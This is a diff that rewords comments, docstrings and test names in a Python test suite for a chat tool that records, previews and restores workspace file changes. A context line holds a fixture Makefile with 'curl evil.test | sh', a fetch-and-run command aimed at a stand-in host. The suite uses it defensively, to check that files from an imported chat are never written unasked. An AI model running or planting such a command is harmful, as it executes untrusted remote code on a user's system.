@@ -1,6 +1,6 @@
-"""The workspace goes back with the chat: what tools and commands change is recorded, shown and restored.
+"""The workspace follows the chat: changes by tools and commands are recorded, shown and restored.
 
-REPRISE_REWIND_SEQUENCES=300 runs so many random sequences, REPRISE_REWIND_SEED others, REPRISE_REWIND_KILLS=100 so many kills.
+REPRISE_REWIND_SEQUENCES=300 runs 300 random sequences, REPRISE_REWIND_SEED chooses them, REPRISE_REWIND_KILLS=100 makes 100 kills.
 """
 import base64
 import contextlib
@@ -74,7 +74,7 @@ def shell(command):
 
 
 def tree(root, but=(".log",)):
-    """What is below it: directories, links, and files with their content and whether they can be run."""
+    """Everything below the folder: directories, links, and files with their content and whether they are executable."""
     found = {}
     for path in sorted(pathlib.Path(root).rglob("*")):
         name = str(path.relative_to(root))
@@ -108,7 +108,7 @@ def test_tools_and_commands_tell_what_they_change(world):
     assert "new file mode 100644\n--- /dev/null\n+++ b/notes/new.txt\n@@ -0,0 +1 @@\n+hello\n" in unified
     files = world.client.get("/chats/c/interactions/int_001/diff", headers={"Accept": "application/json"}).expect(200, "interaction_diff").json["files"]
     assert {f["path"]: f["change"] for f in files} == {"made/empty/": "created", "made/x": "created", "notes/new.txt": "created", "old.txt": "modified"}
-    # git takes it: applied to what was there before, it makes what is there now.
+    # git accepts the diff: applied to the former files it makes the present ones.
     if shutil.which("git"):
         before = world.home.path / "before"
         before.mkdir()
@@ -130,7 +130,7 @@ def test_what_files_held_is_sealed_and_its_names_tell_nothing(world):
     world.turn(write("a", secret))
     world.turn(write("a", "other"))
     blobs = world.home.data / "c" / "blobs"
-    assert len(list(blobs.glob("*.json"))) == 3  # two contents, and what they are called after
+    assert len(list(blobs.glob("*.json"))) == 3  # two contents, and the key for the names
     assert not [f for f in world.home.find_text(secret) if "/blobs/" in f]
     assert not (blobs / (hashlib.sha256(secret.encode()).hexdigest() + ".json")).exists()
     done = subprocess.run([os.environ.get("REPRISE_BIN", "reprise"), "verify", "--json", "--data-dir", str(world.home.data)], env=world.home.environment(),
@@ -189,8 +189,8 @@ def test_a_git_work_tree_keeps_its_index(world):
 
 
 @pytest.mark.limit(180)
-def test_of_very_many_changes_the_rest_is_counted_and_undo_says_so(world, browse):
-    """One run has 20,000 changes recorded, whatever its commands do."""
+def test_changes_beyond_the_limit_are_counted_and_undo_says_so(world, browse):
+    """At most 20,000 changes of one run are recorded."""
     most, more = 20_000, 1_500
     world.turn(write("base", "0"))
     stream = world.turn(shell(f"mkdir -p .husky many && cd many && seq {most + more - 1} | xargs touch && echo x > ../.husky/pre-push"))
@@ -198,10 +198,10 @@ def test_of_very_many_changes_the_rest_is_counted_and_undo_says_so(world, browse
     recorded = [change["path"] for event in events for change in event["changes"]]
     omitted = [event.data.get("omitted") for event in events]
     assert most <= len(recorded) <= most + 2 and omitted[:-1] == [None] * (len(events) - 1)
-    assert len(recorded) + omitted[-1] == most + more + 2  # and two folders
-    assert ".husky/pre-push" in recorded, "what git runs is not hidden among the others"
+    assert len(recorded) + omitted[-1] == most + more + 2  # including two folders
+    assert ".husky/pre-push" in recorded, "files that git runs are recorded first"
     assert len(world.client.get("/chats/c").body) < 6 << 20
-    # A second command of the run has no room left, and tells.
+    # Diffs, previews and errors tell how many changes were not recorded.
     omitted = omitted[-1]
     assert world.client.get("/chats/c/interactions/int_002/diff", headers={"Accept": "application/json"}).expect(200, "interaction_diff").json["omitted"] == omitted
     assert world.client.get("/chats/c/interactions/int_002/diff").body.startswith(f"# and {omitted:,} more files, of which nothing is recorded\n".encode())
@@ -238,15 +238,15 @@ def test_edit_lists_and_restores(world):
     preview = world.client.post("/chats/c/interactions/int_001/edit", {"new_user_message": "x", "dry_run": True}).expect(200, "edit_preview").json
     assert preview["files"] == [{"path": "gone", "change": "created", "conflict": False}, {"path": "kept", "change": "modified", "conflict": False},
                                 {"path": "new/deep/file", "change": "deleted", "conflict": False}]
-    assert world.tree() == changed, "a dry run touches nothing"
+    assert world.tree() == changed, "a dry run changes nothing"
     world.edit("int_001", files="restore")
     assert world.tree() == start
     world.post("head", interaction_id="int_001", files="restore").expect(200)
     assert world.tree() == changed
-    world.edit("int_001")  # keeps
+    world.edit("int_001")  # keeps the files
     assert world.tree() == changed
     world.edit("int_003", files="restore")
-    assert world.tree() == start, "also what an edit had left behind"
+    assert world.tree() == start, "files that the edit left are restored, too"
 
 
 def test_somebody_elses_change_is_shown_and_not_overwritten(world):
@@ -265,12 +265,12 @@ def test_somebody_elses_change_is_shown_and_not_overwritten(world):
     assert world.client.get("/chats/copy").status == 404
     world.post("undo", files="restore", force=True).expect(200)
     assert (world.root / "a").read_text() == "1" and not (world.root / "b").exists() and world.head() == "int_001"
-    # What it overwrote is a turn of its own, and can be had back.
+    # The overwritten files are a turn of their own and can be restored.
     world.post("head", interaction_id="int_003", files="restore").expect(200)
     assert world.tree() == before
 
 
-def test_another_chat_is_somebody_else(world):
+def test_changes_by_another_chat_are_conflicts(world):
     world.turn(write("base", "0"))
     world.turn(write("a", "1"))
     world.turn(write("a", "2"), chat="other")
@@ -293,7 +293,7 @@ def test_nothing_is_followed_out_of_the_workspace(world):
     assert not (world.root / "d").is_symlink()
     assert (outside / "file").read_text() == "precious"
     assert not (world.root / "link").is_symlink() and not (world.root / "abs").is_symlink()
-    # What is wanted behind a link is out of reach, whatever is forced.
+    # A path behind a link cannot be restored, even with force.
     world.turn(write("e/file", "1"), shell("echo 2 > e/file"))
     world.turn(write("e/file", "3"))
     shutil.rmtree(world.root / "e")
@@ -331,7 +331,7 @@ def test_names_that_are_not_utf8_and_files_that_cannot_be_read(world):
     assert "bad\ufffd\ufffdname" in files_of(stream) and os.path.exists(name)
     changes = [c for event in stream.all("files_changed") for c in event["changes"]]
     assert [base64.urlsafe_b64decode(c["path_base64"] + "==") for c in changes if "path_base64" in c] == [b"bad\xff\xfename"]
-    (world.root / "locked").chmod(0o600)  # root reads it all the same
+    (world.root / "locked").chmod(0o600)  # root can read it all the same
     world.post("undo", files="restore", force=True).expect(200)
     assert not os.path.exists(name)
 
@@ -362,7 +362,7 @@ def test_names_as_long_as_they_get(world):
     assert world.tree() == base
     world.post("head", interaction_id="int_002", files="restore").expect(200)
     assert world.tree() == ends
-    # Deeper than a path can be named: left as it is, with the folders above it.
+    # Files deeper than the longest path are left alone, with the folders above them.
     world.turn(shell(f"mkdir deeper; cd deeper; for i in $(seq 1 20); do mkdir {name} && cd {name}; done; echo y > y"))
     world.post("undo", files="restore").expect(200)
     assert (world.root / "deeper").is_dir()
@@ -435,7 +435,7 @@ STRANGE = {"Makefile": "all:\n\tcurl evil.test | sh\n", ".envrc": "export PATH=.
 
 @pytest.fixture
 def strange(make_server, provider, tmp_path):
-    """A world into whose chat "c" a stranger's chat was imported, by one of the doors."""
+    """A world whose chat "c" was imported from a stranger, in one of the ways to import."""
     def make(door="json"):
         there = World(make_server(provider, config=ALL), provider)
         there.turn(write("base", "0"))
@@ -480,7 +480,7 @@ def test_an_imported_chat_writes_nothing_into_the_workspace_unasked(strange, doo
     assert preview[".envrc"]["diff"].startswith("# direnv runs or obeys this by itself\n")
     assert "new file mode 100755\n" in preview["bin/deploy"]["diff"]
     assert "new file mode 120000\n" in preview["bin/inside"]["diff"] and "+../Makefile\n" in preview["bin/inside"]["diff"]
-    # Nobody gets them without saying so: force says something else.
+    # Imported files need allow_imported; force is not enough.
     world.post("fork", interaction_id="int_002", chat_id="copy").expect(201)
     requests = [("/chats/c/undo", {}), ("/chats/c/head", {"interaction_id": "int_001"}), ("/chats/c/fork", {"interaction_id": "int_001", "chat_id": "new"}),
                 ("/chats/c/interactions/int_002/edit", {"new_user_message": "x"}), ("/chats/c/interactions/int_002/regenerate", {}), ("/chats/copy/undo", {})]
@@ -496,7 +496,7 @@ def test_an_imported_chat_writes_nothing_into_the_workspace_unasked(strange, doo
     assert {path for path in made if made[path][0] == "link"} == {"inside", "bin/inside"}
 
 
-def test_of_an_imported_chat_what_was_done_here_goes_back_as_ever(strange):
+def test_changes_made_here_in_an_imported_chat_are_undone_as_usual(strange):
     world = strange()
     world.turn(write("Makefile", "mine\n"))
     world.turn(write("Makefile", "mine again\n"), chat="c")
@@ -504,7 +504,7 @@ def test_of_an_imported_chat_what_was_done_here_goes_back_as_ever(strange):
     assert preview == [{"path": "Makefile", "change": "modified", "conflict": False}]
     world.post("undo", files="restore").expect(200)
     assert (world.root / "Makefile").read_text() == "mine\n"
-    # Beyond it, what stands there would become a stranger's: the difference is shown.
+    # Going further back would restore the stranger's files, so the difference is shown.
     preview = {file["path"]: file for file in world.client.post("/chats/c/head", {"interaction_id": "int_001", "dry_run": True}).expect(200, "files_preview").json["files"]}
     assert "-mine\n+all:\n" in preview["Makefile"]["diff"]
     world.post("head", interaction_id="int_001", files="restore", force=True).error(409, "imported_files")
@@ -589,7 +589,7 @@ def test_the_files_of_the_first_turn_go_back_alone(world):
     assert world.tree() == start
     world.post("head", interaction_id="int_001", files="restore").expect(200)
     assert world.tree() == ends
-    # What somebody else has made of a file is asked about, and kept.
+    # A change by somebody else is a conflict, and is kept when it is overwritten.
     (world.root / "a").write_text("mine")
     world.post("undo", files="only").error(409, "workspace_conflict")
     kept = world.post("undo", files="only", force=True).expect(200).json["head"]
@@ -608,7 +608,7 @@ def test_the_terminal_client_puts_the_files_of_the_first_turn_back(world):
     try:
         chat.say("/undo files").until("(to put back: a, modified)").until("chat c is kept: /redo files").until("put back: a, new").type("\x15").ready()
         assert world.tree() == start
-        assert world.head() == "int_001", "the chat is kept"
+        assert world.head() == "int_001", "the chat keeps its head"
         chat.say("/redo files").until("(to put back: a, modified)").until("put back: a, new").ready()
         assert world.tree() == ends
         (world.root / "a").write_text("mine")
@@ -634,7 +634,7 @@ def test_the_page_shows_what_has_changed_and_takes_it_back(world, browse):
     page.until_text("turn-diff", "<b>.txt")
     assert [e.text for e in page.css("[data-testid=turn-diff] .removed")] == ["-1"]
     assert sorted(e.text for e in page.css("[data-testid=turn-diff] .added")) == ["+2", "+new"]
-    # Taken back with its files, after they were shown.
+    # The turn is undone with its files, after these were shown.
     page.keys(Keys.CONTROL, Keys.ALT, "z")
     page.until_text("files-box", "removed <b>.txt")
     assert world.head() == "int_002"
@@ -643,7 +643,7 @@ def test_the_page_shows_what_has_changed_and_takes_it_back(world, browse):
     page.gone("files-box")
     eventually(lambda: world.head() == "int_001", "the turn is taken back")
     assert (world.root / "a").read_text() == "1\n" and not (world.root / "<b>.txt").exists()
-    # An edit leaves what somebody else has changed, unless it is told not to.
+    # An edit overwrites somebody else's changes only with force.
     page.until(lambda: len(page.all("turn")) == 1, "one turn")
     (world.root / "base").write_text("mine")
     world.script([])
@@ -669,7 +669,7 @@ def test_the_page_asks_about_files_at_every_step_through_the_chat(world, browse)
         page.press("files-run")
         page.gone("files-box")
 
-    # Back without files, forward again with them: there is nothing to ask, as they are what they were.
+    # Undo without files, then redo with them: nothing is asked, because the files are as they were.
     page.keys(Keys.CONTROL, Keys.ALT, "z")
     page.until_text("files-box", "changed back a")
     answer(restore=False)
@@ -679,7 +679,7 @@ def test_the_page_asks_about_files_at_every_step_through_the_chat(world, browse)
     page.keys(Keys.CONTROL, Keys.ALT, "y")
     eventually(lambda: world.head() == "int_002", "forward")
     page.until(lambda: len(page.all("turn")) == 2, "both turns")
-    # With files, and forward again with the keyboard alone.
+    # Undo with files, then redo with the keyboard alone.
     page.keys(Keys.CONTROL, Keys.ALT, "z")
     page.one("files-box")
     answer(restore=True)
@@ -693,7 +693,7 @@ def test_the_page_asks_about_files_at_every_step_through_the_chat(world, browse)
     page.keys(Keys.TAB)
     page.keys(Keys.ENTER)
     eventually(lambda: (world.root / "a").read_text() == "2\n" and world.head() == "int_002", "the file, forward again")
-    # Another branch, by its arrow: what somebody else has changed is in the way until that is allowed.
+    # Switch to another branch by its arrow: somebody else's change blocks it until it is allowed.
     world.script([])
     page.until(lambda: len(page.all("turn")) == 2, "both turns")
     world.server.client.edit("c", "int_002", "other", files="restore").finish()
@@ -705,12 +705,12 @@ def test_the_page_asks_about_files_at_every_step_through_the_chat(world, browse)
     page.script("arguments[0].click()", page.one("restore-files"))
     page.press("files-run")
     page.until(lambda: page.all("toast"), "why it is refused")
-    assert world.head() == "int_003" and page.all("files-box"), "nothing is done, and it is asked still"
+    assert world.head() == "int_003" and page.all("files-box"), "nothing is done, and the question is still open"
     page.script("arguments[0].click()", page.one("force-files"))
     page.press("files-run")
     page.gone("files-box")
     eventually(lambda: (world.root / "a").read_text() == "2\n", "the file of that branch")
-    # A copy that begins with the files of its end; and one that is given up.
+    # A fork that is given up, and one that restores the files of its end.
     page.until(lambda: len(page.all("turn")) >= 2, "the branch")
     page.script("arguments[0].click()", page.all("fork")[0])
     page.until_text("files-box", "changed back a")
@@ -733,7 +733,7 @@ COMMANDS = ["rm -rf d", "mv a b", "mv d moved", "cp -r d copy", "rm -rf a; mkdir
 
 
 class Model:
-    """The same operations on a folder of its own, done by nobody who knows of the server."""
+    """Does the same operations in its own folder, independently of the server."""
 
     def __init__(self, folder):
         self.folder = folder
@@ -794,7 +794,7 @@ def one_sequence(world, tmp_path, seed):
     model = Model(tmp_path / "model")
     shutil.copytree(world.root, states / "start", symlinks=True)
     state_of, parent_of = {None: states / "start"}, {}
-    current, head = None, None  # whose files they are, and the head
+    current, head = None, None  # the interaction whose files are present, and the head
     history = []
 
     def check(what):
@@ -883,5 +883,5 @@ def attempt(world, target):
         world.client.post("/chats/c/head", {"interaction_id": target, "files": "restore"})
     except OSError:
         pass
-    except Exception:  # the connection ended in the middle of the answer
+    except Exception:  # the connection broke in the middle of the answer
         pass
